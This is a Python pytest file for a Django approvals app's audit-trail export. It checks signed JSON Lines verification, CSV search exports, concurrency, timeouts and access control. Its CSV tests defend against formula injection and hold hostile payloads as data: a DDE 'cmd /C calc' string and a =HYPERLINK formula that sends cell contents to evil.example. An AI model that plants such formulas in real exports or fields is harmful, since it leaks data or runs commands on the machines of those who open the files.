"""Taking events away: a file that proves itself, a table that no spreadsheet works out, and an event each time."""

import asyncio
import csv
import json
from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from importlib import import_module
from io import StringIO
from pathlib import Path
from typing import Any, cast

import pytest
from django.test import Client

from approvals.audit.export import export
from approvals.audit.models import Checkpoint, Event, Personal
from approvals.database import tenant_scope
from approvals.queries import looked
from approvals.queries.table import COLUMNS, _as_text_in, as_text
from approvals.views import streaming, taking
from tests import courses
from tests.audit.verifier import STRANGER, verified
from tests.views.conftest import SignIn
from tests.views.test_timeline import text
from tests.views.test_trail_outside import SIGNS, sealed
from tests.world import World, break_the_trail

EXPORT, CSV = "/trail/export/", "/trail/search/csv/"


async def _collected(pieces: AsyncIterator[bytes]) -> bytes:
    return b"".join([piece async for piece in pieces])


def taken(client: Client, path: str = EXPORT, **form: str) -> str:
    answer: Any = client.post(path, form)
    assert answer.status_code == 200 and answer.streaming, answer.content.decode()
    return asyncio.run(_collected(cast("AsyncIterator[bytes]", answer.streaming_content))).decode()


def recorded(world: World, kind: str = "trail.exported") -> list[dict[str, Any]]:
    with world.processes.acting_as("web"), tenant_scope(world.tenant.pk):
        found = Event.objects.filter(tenant_id=world.tenant.pk, kind=kind).order_by("at")
        return [json.loads(one.text)["data"] for one in found]


def proved(file: str, folder: Path, *more: str) -> tuple[int, str]:
    path = folder / "trail.jsonl"
    path.write_text(file)
    done = verified(path, SIGNS, *more)
    return done.returncode, done.stdout


def when(world: World, number: int) -> datetime:
    """When a checkpoint was sealed."""
    with world.processes.acting_as("web"), tenant_scope(world.tenant.pk):
        text = Checkpoint.objects.get(tenant_id=world.tenant.pk, number=number).text
    return datetime.fromisoformat(json.loads(text)["at"])


@pytest.fixture
def busy(web: World) -> World:
    """Three checkpoints, and events that are not sealed."""
    for _ in range(3):
        web.vote(web.submit(), "deny", "lena", comment="Ask the carrier first.")
        sealed(web)
    web.submit()
    return web


def test_all_of_it_is_proved_by_the_program(busy: World, sign_in: SignIn, tmp_path: Path) -> None:
    ada = sign_in("ada")
    file = taken(ada)
    code, said = proved(file, tmp_path, "--tenant", str(busy.tenant.pk))
    assert code == 0 and f"this is the trail of {busy.tenant.pk}" in said
    assert "in 3 checkpoints" in said and "0 personal values" in said
    assert verified(tmp_path / "trail.jsonl", STRANGER).returncode == 1
    assert recorded(busy) == [
        {
            "format": "jsonl",
            "since": "",
            "until": "",
            "first": 1,
            "checkpoints": 3,
            "events": counted(file),
            "personal": False,
        }
    ]


def counted(file: str) -> int:
    """All of the file, but for the event that it was taken away."""
    return [json.loads(line)["line"] for line in file.splitlines()].count("event") - 1


def test_it_is_as_the_command_exports_it_and_of_this_company_alone(busy: World, sign_in: SignIn) -> None:
    ada = sign_in("ada")
    file = taken(ada, personal="on")
    with busy.processes.acting_as("sweeper"):
        by_command = list(export(busy.tenant.pk, personal=True))
    mine = file.splitlines()
    # The command comes after the page has recorded that the file was taken away.
    assert mine[:-1] == by_command[: len(mine) - 1]
    assert str(busy.other.pk) not in file and "Ask the carrier first." in file


def test_personal_values_are_there_only_where_they_are_asked_for(
    busy: World, sign_in: SignIn, tmp_path: Path
) -> None:
    ada = sign_in("ada")
    assert "carrier" not in taken(ada)
    assert "values are those that were committed to" in proved(taken(ada, personal="on"), tmp_path)[1]
    assert [one["personal"] for one in recorded(busy)] == [False, True]


def test_a_part_has_whole_checkpoints_and_is_proved_as_a_part(
    busy: World, sign_in: SignIn, tmp_path: Path
) -> None:
    since, until = when(busy, 2), when(busy, 3)
    file = taken(sign_in("ada"), since=since.isoformat(), until=until.isoformat())
    code, said = proved(file, tmp_path)
    assert code == 1 and "say --part if a part is what you asked for" in said
    code, said = proved(file, tmp_path, "--part")
    assert code == 0 and "checkpoints 2 to 2; the rest of it is not in this file" in said
    assert (recorded(busy)[-1]["first"], recorded(busy)[-1]["checkpoints"]) == (2, 1)


def test_from_a_time_on_it_goes_to_the_end_with_what_is_not_sealed(
    busy: World, sign_in: SignIn, tmp_path: Path
) -> None:
    file = taken(sign_in("ada"), since=when(busy, 3).isoformat())
    code, said = proved(file, tmp_path, "--part")
    assert code == 0 and "checkpoints 3 to 3, and what is not sealed yet; the rest" in said


@pytest.mark.parametrize(
    ("form", "words"),
    [
        ({"since": "soon"}, "Write a day and a time in UTC"),
        ({"since": "2026-01-02", "until": "2026-01-01"}, "This is not after the time from which on"),
        ({"until": "2020-01-01"}, "Nothing was sealed in that time."),
    ],
)
def test_what_cannot_be_taken_is_said_and_not_recorded(
    busy: World, sign_in: SignIn, form: dict[str, str], words: str
) -> None:
    answer = sign_in("ada").post(EXPORT, form)
    shown = text(answer.content.decode())
    assert answer.status_code == 422 and words in shown and "Nothing was taken away." in shown
    assert recorded(busy) == []


def test_one_at_a_time_and_a_reader_who_goes_away_leaves_nothing_running(
    busy: World, sign_in: SignIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(taking, "PIECE", 1)
    ada = sign_in("ada")
    first: Any = ada.post(EXPORT)
    refused = ada.post(EXPORT)
    assert refused.status_code == 409
    assert "one at a time is enough work" in text(refused.content.decode())

    async def leave() -> None:
        pieces = first.streaming_content
        await anext(pieces)
        await pieces.aclose()

    asyncio.run(leave())
    assert taking._one_at_a_time.acquire(timeout=5)  # nobody holds it
    taking._one_at_a_time.release()
    never: Any = ada.post(EXPORT)
    never.close()  # as the server does; nobody has read any of it
    assert json.loads(taken(ada).splitlines()[-1])["line"] == "end"


def test_a_reader_who_stalls_does_not_keep_the_turn(
    busy: World, sign_in: SignIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(streaming, "PATIENCE_SECONDS", 0.2)
    monkeypatch.setattr(taking, "PIECE", 1)
    ada = sign_in("ada")
    first: Any = ada.post(EXPORT)

    async def stall() -> str:
        pieces = first.streaming_content
        await anext(pieces)
        assert await asyncio.to_thread(taking._one_at_a_time.acquire, timeout=10)
        taking._one_at_a_time.release()
        with pytest.raises(streaming.Stalled):
            await anext(pieces)
        return await asyncio.to_thread(taken, ada)

    assert json.loads(asyncio.run(stall()).splitlines()[-1])["line"] == "end"


def test_a_file_that_takes_too_long_is_cut_off_and_proves_nothing(
    busy: World, sign_in: SignIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(taking, "LONGEST_SECONDS", -1.0)
    with pytest.raises(taking.TooLong):
        taken(sign_in("ada"))
    assert taking._one_at_a_time.acquire(timeout=5)
    taking._one_at_a_time.release()


def test_what_cannot_be_recorded_is_not_taken_away(
    busy: World, sign_in: SignIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    ada = sign_in("ada")
    break_the_trail(monkeypatch, looked)
    for path in (EXPORT, CSV):
        with pytest.raises(RuntimeError, match="the trail is full"):
            ada.post(path)
    assert taking._one_at_a_time.acquire(timeout=5)
    taking._one_at_a_time.release()


# --- as a table -----------------------------------------------------------------------------------------------


def rows(file: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(StringIO(file, newline=""), delimiter=separator))


def test_a_search_is_taken_away_as_a_table(busy: World, sign_in: SignIn) -> None:
    ada = sign_in("ada")
    head, *found = rows(taken(ada, CSV, kind="vote.cast", person="lena"))
    assert tuple(head) == COLUMNS and len(found) == 3
    newest = dict(zip(head, found[0], strict=True))
    assert newest["by"] == "Lena" and newest["kind"] == "vote.cast" and newest["sealed"] == "yes"
    assert newest["said"] == "comment: Ask the carrier first.; name: Lena"
    assert datetime.fromisoformat(newest["time (UTC)"]).utcoffset() == timedelta(0)
    assert json.loads(newest["data"])["decision"] == "deny"
    assert recorded(busy) == [{"format": "csv", "events": 3, "is_cut": False, "personal": True}]
    with busy.processes.acting_as("web"), tenant_scope(busy.tenant.pk):
        asked = Personal.objects.get(tenant_id=busy.tenant.pk, field="searched")
    assert asked.value == "person: lena; kind: vote.cast"
    shown = ada.get("/trail/search/?kind=vote.cast&person=lena").content.decode()
    assert 'action="/trail/search/csv/"' in shown
    assert '<input type="hidden" name="person" value="lena">' in shown


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "＝"])  # noqa: RUF001
def test_no_cell_is_a_formula(web: World, sign_in: SignIn, begins: str) -> None:
    assert as_text(f"{begins}1+1") == f"'{begins}1+1"
    assert as_text("1+1") == "1+1"


def test_words_of_a_stranger_that_would_be_a_formula_are_text_in_the_file(
    web: World, sign_in: SignIn
) -> None:
    with web.processes.acting_as("migrator"):
        web.people["lena"].name = "=cmd|' /C calc'!A0"
        web.people["lena"].save(update_fields=["name"])
    web.vote(web.submit(), "deny", "lena", comment="Ask.")
    cells = [cell for row in rows(taken(sign_in("ada"), CSV)) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


LINK = '=HYPERLINK("http://evil.example/?"&A1)'
SIGNS_OF_FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")  # noqa: RUF001


@pytest.mark.parametrize(
    "words",
    [
        f"x;{LINK}",
        f'x;"{LINK}',
        f'x"; " {LINK}',
        f"x|{LINK};@SUM(1)",
        f"x\t{LINK}",
        f"x\n{LINK}",
        f"x\r\n y,{LINK}",
        f'x\r""," {LINK}',
        "x;－1+1",  # noqa: RUF001
    ],
)
def test_no_cell_is_a_formula_wherever_a_program_cuts_the_line(
    web: World, sign_in: SignIn, words: str
) -> None:
    """A spreadsheet of most of Europe takes `;` for what separates; then one sorts its first column by commas."""
    with web.processes.acting_as("migrator"):
        web.people["lena"].name = words
        web.people["lena"].save(update_fields=["name"])
    web.vote(web.submit(reason=f"{words} and more"), "deny", "lena", comment=words)
    file = taken(sign_in("ada"), CSV)
    assert "HYPERLINK" in file or "1+1" in file
    cells = [cell for separator in ",;\t|" for row in rows(file, separator) for cell in row]
    cells += [again for cell in cells for row in rows(cell) for again in row]
    assert not [cell for cell in cells if cell.lstrip(' "\t').startswith(SIGNS_OF_FORMULAS)]


def test_data_stays_json_with_formulas_in_it_as_text() -> None:
    data = {"=a": ["x;=1", -5, None, {"b": "-1"}], "c": (True, 0.5)}
    assert _as_text_in(data) == {"'=a": ["x;'=1", -5, None, {"b": "'-1"}], "c": [True, 0.5]}


def test_a_table_that_is_cut_says_so_in_its_last_row(
    busy: World, sign_in: SignIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(taking, "MOST_ROWS", 2)
    monkeypatch.setattr(import_module("approvals.queries.table"), "CHUNK", 1)
    found = rows(taken(sign_in("ada"), CSV, kind="vote.cast"))
    assert len(found) == 4
    assert found[-1][0].startswith("CUT OFF: more than 2 events fit.")
    assert recorded(busy) == [{"format": "csv", "events": 2, "is_cut": True, "personal": True}]


def test_a_search_that_cannot_be_made_is_not_taken_away(web: World, sign_in: SignIn) -> None:
    answer = sign_in("ada").post(CSV, {"person": "nobody at all"})
    assert answer.status_code == 422 and "This search cannot be made." in text(answer.content.decode())
    assert recorded(web) == []


# --- who may --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["lena", "opal"])
def test_who_is_no_auditor_takes_nothing_away_and_leaves_an_event(
    web: World, sign_in: SignIn, who: str
) -> None:
    client = sign_in(who)
    for answer in (client.get("/trail/take-away/"), client.post(EXPORT), client.post(CSV)):
        assert answer.status_code == 403
        assert web.events()[-1] == "access.denied"
    assert recorded(web) == []


def test_a_get_takes_nothing_away(web: World, sign_in: SignIn) -> None:
    ada = sign_in("ada")
    assert {ada.get(path).status_code for path in (EXPORT, CSV)} == {405}
    shown = text(ada.get("/trail/take-away/").content.decode())
    assert "With its proofs (JSON Lines)" in shown and f"--tenant {web.tenant.pk}" in shown
    assert recorded(web) == []


def test_each_time_it_is_taken_away_is_recorded(busy: World, sign_in: SignIn) -> None:
    ada = sign_in("ada")
    for _ in range(2):
        taken(ada)
    assert len(recorded(busy)) == 2


def test_an_executed_requests_trail_is_proved_too(web: World, sign_in: SignIn, tmp_path: Path) -> None:
    """With events of every process, as the sweeper really sealed them."""
    courses.succeeded(web)
    sealed(web)
    assert proved(taken(sign_in("ada"), personal="on"), tmp_path)[0] == 0
